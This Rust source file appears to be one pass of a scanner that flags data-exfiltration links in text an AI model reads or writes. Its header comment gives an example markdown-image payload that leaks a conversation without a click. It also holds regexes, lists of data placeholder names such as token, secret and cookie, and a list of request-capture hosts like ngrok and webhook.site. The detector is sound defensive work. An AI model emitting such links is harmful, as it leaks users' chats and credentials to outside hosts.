//! Links that carry data out: a markdown image is fetched by the client as soon as it is
//! rendered, so `![](https://x/?q={conversation})` exfiltrates without a click. Links
//! and bare URLs count when they carry a placeholder for data.

use std::ops::Range;
use std::sync::OnceLock;

use regex::Regex;

use super::window::in_area;
use crate::normalize::Normalized;
use crate::verdict::{Signal, SignalKind};

/// See `files::ANCHORS`.
pub(crate) const ANCHORS: &str = "http";

struct Compiled {
    image: Regex,
    link: Regex,
    raw: Regex,
    placeholder: Regex,
}

const IMAGE: &str = r#"!\[[^\]\n]{0,200}\]\(\s?<?(https?://[^\s)>]{1,2048})|<img\b[^>]{0,300}?\bsrc\s?=\s?["']?(https?://[^"'\s>]{1,2048})"#;
const LINK: &str = r"\[[^\]\n]{0,200}\]\(\s?<?(https?://[^\s)>]{1,2048})";
const RAW: &str = r#"https?://[^\s)<>"'`]{1,2048}"#;

/// The patterns this pass matches on the light view (the engine gates the pass on them).
pub(crate) fn patterns() -> impl Iterator<Item = String> {
    [IMAGE, LINK, RAW].into_iter().map(str::to_string)
}

fn compiled() -> Option<&'static Compiled> {
    static C: OnceLock<Option<Compiled>> = OnceLock::new();
    C.get_or_init(|| {
        Some(Compiled {
            image: Regex::new(IMAGE).ok()?,
            link: Regex::new(LINK).ok()?,
            raw: Regex::new(RAW).ok()?,
            placeholder: Regex::new(
                r"\{\{?\s?([a-z_ .-]{1,40})\s?\}?\}|%7b([a-z_ .%-]{1,40})%7d|\$\{?([a-z_]{1,40})\}?|<([a-z_ -]{1,40})>|\[([a-z_ -]{1,40})\]",
            )
            .ok()?,
        })
    })
    .as_ref()
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Carrier {
    Image,
    Link,
    Raw,
}

/// Names of placeholders that stand for what an attacker wants.
const DATA_NAMES: &[&str] = &[
    "conversation",
    "chat",
    "history",
    "context",
    "data",
    "secret",
    "token",
    "key",
    "passw",
    "credential",
    "message",
    "summary",
    "info",
    "content",
    "user",
    "prompt",
    "env",
    "file",
    "memory",
    "response",
    "answer",
    "output",
    "text",
    "input",
    "ssh",
    "cookie",
    "session",
];
/// In a URL path `{owner}/{repo}` is an API template; only these names are alarming there.
const PATH_DATA_NAMES: &[&str] = &[
    "conversation",
    "chat",
    "history",
    "context",
    "secret",
    "token",
    "passw",
    "credential",
    "summary",
    "memory",
    "prompt",
    "env",
    "cookie",
    "session",
];

const EXFIL_HOSTS: &[&str] = &[
    "ngrok",
    "requestbin",
    "webhook.site",
    "pipedream",
    "burpcollaborator",
    "oast.",
    "interact.sh",
    "beeceptor",
    "hookbin",
    "requestcatcher",
];

pub(crate) fn warm_up() {
    let _ = compiled();
}

/// Exfiltration-link signals (context-free weights) whose match starts in `area` of the
/// normalised views.
/// How many images, links and bare URLs may still be reported in the current window.
pub(crate) fn quota() -> [usize; 3] {
    [super::MAX_MATCHES, super::MAX_MATCHES, super::MAX_MATCHES * 4]
}

pub(crate) fn scan(
    norm: &Normalized<'_>,
    area: Range<usize>,
    original: &str,
    quota: &mut [usize; 3],
    out: &mut Vec<Signal>,
) {
    let Some(c) = compiled() else { return };
    let light = norm.text.as_str();
    let mut covered: Vec<Range<usize>> = Vec::new();
    let mut images = in_area(&c.image, light, area.clone());
    for caps in std::iter::from_fn(|| images.next_captures()).take(quota[0]) {
        quota[0] -= 1;
        let (Some(m), Some(url)) = (caps.get(0), caps.get(1).or_else(|| caps.get(2))) else {
            continue;
        };
        covered.push(url.range());
        judge(c, norm, original, m.range(), url.range(), Carrier::Image, out);
    }
    let mut links = in_area(&c.link, light, area.clone());
    for caps in std::iter::from_fn(|| links.next_captures()).take(quota[1]) {
        quota[1] -= 1;
        let (Some(m), Some(url)) = (caps.get(0), caps.get(1)) else {
            continue;
        };
        if covered.iter().any(|r| r.start == url.start()) {
            continue;
        }
        covered.push(url.range());
        judge(c, norm, original, m.range(), url.range(), Carrier::Link, out);
    }
    for m in in_area(&c.raw, light, area).take(quota[2]) {
        quota[2] -= 1;
        if covered.iter().any(|r| r.start <= m.start() && m.start() < r.end) {
            continue;
        }
        judge(c, norm, original, m.range(), m.range(), Carrier::Raw, out);
    }
}

fn judge(
    c: &Compiled,
    norm: &Normalized<'_>,
    original: &str,
    range: Range<usize>,
    url_range: Range<usize>,
    carrier: Carrier,
    out: &mut Vec<Signal>,
) {
    let url = &norm.text[url_range.clone()];
    let after_scheme = url.split_once("://").map_or(url, |(_, r)| r);
    let (host, rest) = after_scheme.split_at(after_scheme.find(['/', '?', '#']).unwrap_or(after_scheme.len()));
    let (path, query) = match rest.find(['?', '#']) {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, ""),
    };
    let data_in_query = placeholders(c, query).any(|n| DATA_NAMES.iter().any(|d| n.contains(d)));
    let any_in_query = placeholders(c, query).next().is_some();
    let data_in_path = placeholders(c, path).any(|n| PATH_DATA_NAMES.iter().any(|d| n.contains(d)));
    // `?c=SESSION_DATA`: a bare name standing for the data, to be filled in by the model.
    // Whole segments only (`dotenv` is a word, `session_data` names data), and never
    // the analytics parameters every link in a README carries.
    let bare_name = query.split(['&', '?', '#', ';']).any(|kv| {
        let Some((k, v)) = kv.split_once('=') else { return false };
        !k.starts_with("utm_")
            && v.len() >= 4
            && v.bytes().all(|b| b.is_ascii_lowercase() || b == b'_')
            && v.split('_')
                .any(|seg| PATH_DATA_NAMES.iter().any(|d| seg.starts_with(d)))
    });
    let data_in_query = data_in_query || bare_name;
    // A long query value that decodes to text is data on its way out; long opaque values
    // (signed CDN URLs, percent-encoded badge parameters) are everyday. Base64 is
    // case-sensitive, so the value is read from the original text.
    let original_url = &original[norm.original_range(url_range)];
    let original_query = original_url.find(['?', '#']).map_or("", |i| &original_url[i..]);
    let long_value = original_query.split(['&', '?', '#', ';']).any(|kv| {
        let v = kv.split_once('=').map_or(kv, |(_, v)| v);
        v.len() >= 24 && super::encoded::decodes_to_text(v)
    });
    let exfil_host = EXFIL_HOSTS.iter().any(|h| host.contains(h));

    let (mut weight, why): (f32, &str) = match carrier {
        Carrier::Image if data_in_query || data_in_path => (0.75, "image URL with a data placeholder"),
        Carrier::Image if any_in_query => (0.5, "image URL with a placeholder in its query"),
        Carrier::Image if long_value => (0.5, "image URL carrying encoded text"),
        Carrier::Link if long_value => (0.3, "link carrying encoded text"),
        Carrier::Image if exfil_host => (0.3, "image from a request-capture host"),
        Carrier::Link if data_in_query || data_in_path => (0.55, "link with a data placeholder"),
        Carrier::Link if any_in_query => (0.25, "link with a placeholder in its query"),
        Carrier::Raw if data_in_query || data_in_path => (0.45, "URL with a data placeholder"),
        _ if exfil_host && !query.is_empty() => (0.3, "request-capture host with a query"),
        _ => return,
    };
    if exfil_host {
        weight += 0.2;
    }
    let span = norm.original_range(range);
    let evidence = format!("{why}: {}", crate::neutralize::excerpt_in(original, span.clone(), 120));
    out.push(Signal {
        kind: SignalKind::ExfilLink,
        span,
        evidence,
        weight: weight.min(1.0),
    });
}

fn placeholders<'h>(c: &'h Compiled, s: &'h str) -> impl Iterator<Item = &'h str> + 'h {
    c.placeholder
        .captures_iter(s)
        .filter_map(|caps| caps.iter().skip(1).flatten().next().map(|m| m.as_str()))
}
